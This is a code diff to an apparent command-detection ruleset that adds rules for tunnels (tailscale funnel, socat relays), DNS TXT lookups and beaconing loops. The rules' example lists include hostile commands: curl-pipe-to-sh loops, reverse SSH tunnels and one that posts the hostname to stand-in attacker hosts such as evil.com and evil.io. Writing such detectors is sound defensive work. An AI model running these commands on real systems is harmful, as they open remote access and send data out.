@@ -383,7 +383,8 @@ function downloadExecsOf(input: AnalysisInput): DownloadExec[] {
 /** `dig +short TXT cmd.example.net`: a DNS answer is whatever the domain's owner put there, as a download is. */
 function txtLookup(c: SimpleCommand): boolean {
   if (c.name !== 'dig' && c.name !== 'host' && c.name !== 'nslookup' && c.name !== 'drill') return false;
-  return c.argv.some((w, k) => /^txt$/i.test(w) || /^-(?:q)?type=txt$/i.test(w) || (w === '-t' && /^txt$/i.test(c.argv[k + 1] ?? '')));
+  // nslookup spells the type `-type=`, `-q=`, `-query=` or `-querytype=`
+  return c.argv.some((w, k) => /^txt$/i.test(w) || /^-(?:q|query|querytype|qtype|type)=txt$/i.test(w) || (w === '-t' && /^txt$/i.test(c.argv[k + 1] ?? '')));
 }
 
 /** `${jndi:`, also with its letters built by lookups (`${${lower:j}ndi:`, `${j${::-n}di:`). */
@@ -591,6 +592,14 @@ function tunnelExposure(c: SimpleCommand): string | undefined {
     }
     case 'bore': case 'lt':
       return SENSITIVE_PORTS.has(ops[1] ?? portOf(c.argv[c.argv.indexOf('--port') + 1]) ?? '') ? c.argv.join(' ') : undefined;
+    // Tailscale Funnel publishes a local port on the internet: a raw TCP one, or SSH's, is a way in
+    case 'tailscale':
+      return ops[0] === 'funnel' && (c.argv.some((w) => w === '--tcp' || w.startsWith('--tcp=') || w.startsWith('--tls-terminated-tcp') || /^tcp:\/\//.test(w)) || SENSITIVE_PORTS.has(portOf(ops.at(-1)) ?? ops.at(-1) ?? '')) ? c.argv.join(' ') : undefined;
+    // socat joining an outside address to a machine inside: a relay from the internet into the network
+    case 'socat': {
+      const ends = c.argv.slice(1).filter((w) => /^(?:tcp[46]?|openssl|udp[46]?):/i.test(w)).map((w) => w.split(':')[1] ?? '');
+      return ends.length === 2 && ends.some((h) => external(h)) && ends.some((h) => classifyHost(h) === 'private') ? c.argv.join(' ') : undefined;
+    }
     // a hidden service hands a local port (SSH, a shell) to anyone who has the .onion name, past every firewall
     case 'tor':
       return c.argv.some((w) => /^--?HiddenServicePort$/i.test(w)) ? c.argv.join(' ') : undefined;
@@ -615,6 +624,7 @@ function devTunnel(c: SimpleCommand): string | undefined {
   const ops = operands(c);
   if (c.name === 'ngrok' && ['http', 'tunnel', 'start'].includes(ops[0] ?? '')) return c.argv.join(' ');
   if (c.name === 'cloudflared' && ops[0] === 'tunnel' && (ops.length > 1 || hasArg(c, '--url'))) return c.argv.join(' ');
+  if (c.name === 'tailscale' && ops[0] === 'funnel' && ops.length > 1 && !/^(?:off|status|reset|--help)$/.test(ops[1]!)) return c.argv.join(' ');
   if ((c.name === 'lt' && hasArg(c, '--port', '-p')) || (c.name === 'bore' && ops[0] === 'local') || c.name === 'localtunnel' || c.name === 'pagekite.py' || c.name === 'tunnelto') return c.argv.join(' ');
   if (c.name === 'ssh') {
     const { flags, host } = sshParse(c);
@@ -678,6 +688,17 @@ function stripsChecksums(text: string, lockfile: string): boolean {
   if (/del\([^)]{0,80}\b(?:integrity|resolved|checksum)\b/.test(t) || /files\s{0,4}=\s{0,4}\\?\[\\?\]/.test(t)) return true;
   const deletes = /\/d(?:['"\s]|$)/.test(t);
   return deletes && (lockfile.endsWith('go.sum') || /integrity|sha512-/.test(t));
+}
+
+/**
+ * A request that only checks a site answers: its body thrown away (`-o /dev/null`), a HEAD, or wget's spider, sending
+ * nothing and handing nothing on. Repeated with a sleep it is an uptime check, not a check-in.
+ */
+function statusProbe(c: SimpleCommand): boolean {
+  const a = c.argv;
+  if (c.pipeTo || a.some((w) => /^(?:-d|--data(?:-\w+)?|-F|--form|-T|--upload-file|--post-data|--post-file|--body-data)(?:=|$)/.test(w))) return false;
+  if (c.name === 'wget') return hasArg(c, '--spider');
+  return a.some((w, k) => ((w === '-o' || w === '--output') && a[k + 1] === '/dev/null') || w === '--output=/dev/null') || hasArg(c, '-I', '--head');
 }
 
 export const RULES: readonly Rule[] = [
@@ -790,13 +811,13 @@ export const RULES: readonly Rule[] = [
     message: 'Opens a tunnel that exposes this machine to the internet', why: 'chisel, frp, ngrok tcp, cloudflared ssh:// and `ssh -R` to an outside host give a remote party a way in past the firewall.',
     alternative: 'Use the team VPN or a bastion host.',
     test: (c) => tunnelExposure(c),
-    examples: { fire: ['ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'autossh -M 0 -f -N -R 9922:localhost:22 relay@203.0.113.31', 'tor --HiddenServiceDir /tmp/.hs --HiddenServicePort "2222 127.0.0.1:22" --RunAsDaemon 1', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &', 'gost -L=:8080 -F=socks5://45.33.12.7:1080'], quiet: ['autossh -M 0 -N -L 5432:db.internal:5432 dev@bastion.corp.example', 'tor --version', 'ngrok http 3000', 'gost -L=http://127.0.0.1:8080', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
+    examples: { fire: ['ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'autossh -M 0 -f -N -R 9922:localhost:22 relay@203.0.113.31', 'tor --HiddenServiceDir /tmp/.hs --HiddenServicePort "2222 127.0.0.1:22" --RunAsDaemon 1', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &', 'gost -L=:8080 -F=socks5://45.33.12.7:1080', 'tailscale funnel --bg --tcp 2222 tcp://localhost:22', 'socat TCP4:203.0.113.50:443 TCP4:10.1.2.3:3389'], quiet: ['socat TCP4:203.0.113.50:443 TCP4:127.0.0.1:8080', 'tailscale funnel status', 'autossh -M 0 -N -L 5432:db.internal:5432 dev@bastion.corp.example', 'tor --version', 'ngrok http 3000', 'gost -L=http://127.0.0.1:8080', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
   },
   {
     id: 'PX-C2-010', name: 'opens-public-dev-tunnel', score: 50, tactic: 'command_and_control', technique: 'T1572',
     message: 'Exposes a local web port on a public tunnel URL', why: 'A public tunnel makes a local dev server reachable by anyone who finds the URL, around any firewall.',
     test: (c) => devTunnel(c),
-    examples: { fire: ['ngrok http 3000', 'cloudflared tunnel --url http://localhost:8080', 'lt --port 3000', 'ssh -R 80:localhost:3000 serveo.net'], quiet: ['ngrok config add-authtoken x', 'ngrok version', 'cloudflared --version'] },
+    examples: { fire: ['ngrok http 3000', 'tailscale funnel --bg 3000', 'cloudflared tunnel --url http://localhost:8080', 'lt --port 3000', 'ssh -R 80:localhost:3000 serveo.net'], quiet: ['ngrok config add-authtoken x', 'ngrok version', 'cloudflared --version'] },
   },
   {
     id: 'PX-C2-011', name: 'ssh-proxy-or-open-forward', score: 55, tactic: 'command_and_control', technique: 'T1090.001',
@@ -899,10 +920,10 @@ export const RULES: readonly Rule[] = [
     check: (i) => {
       const cmds = i.view?.commands ?? [];
       if (!i.view?.loops || !cmds.some((c) => c.name === 'sleep') || fewRounds(i)) return undefined;
-      const fetch = cmds.find((c) => FETCHERS.has(c.name) && i.facts.destinations.some((d) => d.cmd === c && d.kind !== 'loopback' && d.kind !== 'private' && d.kind !== 'developer'));
+      const fetch = cmds.find((c) => FETCHERS.has(c.name) && !statusProbe(c) && i.facts.destinations.some((d) => d.cmd === c && d.kind !== 'loopback' && d.kind !== 'private' && d.kind !== 'developer'));
       return fetch ? `loop: ${fetch.argv.join(' ')}; sleep` : undefined;
     },
-    examples: { fire: ['while true; do wget http://evil.com/cmd; sleep 30; done', 'while :; do curl -s http://45.33.12.7/t | sh; sleep 60; done &', 'for i in $(seq 1 1000); do curl -s -d "$(hostname)" https://x.ngrok.io/b; sleep 5; done'], quiet: ["for i in $(seq 1 10); do curl -s -o /dev/null -w '%{http_code}\\n' https://checkout.example.shop/healthz; sleep 1; done | sort | uniq -c", 'while true; do curl -s http://localhost:3000/health; sleep 2; done', 'for i in 1 2 3; do curl -fsS https://api.github.com/rate_limit; sleep 1; done', 'until curl -s http://db.internal:8080/ready; do sleep 1; done'] },
+    examples: { fire: ['while true; do wget http://evil.com/cmd; sleep 30; done', 'while :; do curl -s http://45.33.12.7/t | sh; sleep 60; done &', 'for i in $(seq 1 1000); do curl -s -d "$(hostname)" https://x.ngrok.io/b; sleep 5; done'], quiet: ["for i in $(seq 1 10); do curl -s -o /dev/null -w '%{http_code}\\n' https://checkout.example.shop/healthz; sleep 1; done | sort | uniq -c", 'while true; do curl -s http://localhost:3000/health; sleep 2; done', 'for i in 1 2 3; do curl -fsS https://api.github.com/rate_limit; sleep 1; done', 'until curl -s http://db.internal:8080/ready; do sleep 1; done', "while true; do curl -s -o /dev/null -w '%{http_code}\\n' https://status.shop.io/; sleep 10; done", 'while :; do wget -q --spider https://shop.io/; sleep 30; done'] },
   },
   {
     id: 'PX-C2-019', name: 'interpreter-opens-raw-socket', score: 60, tactic: 'command_and_control', technique: 'T1095',
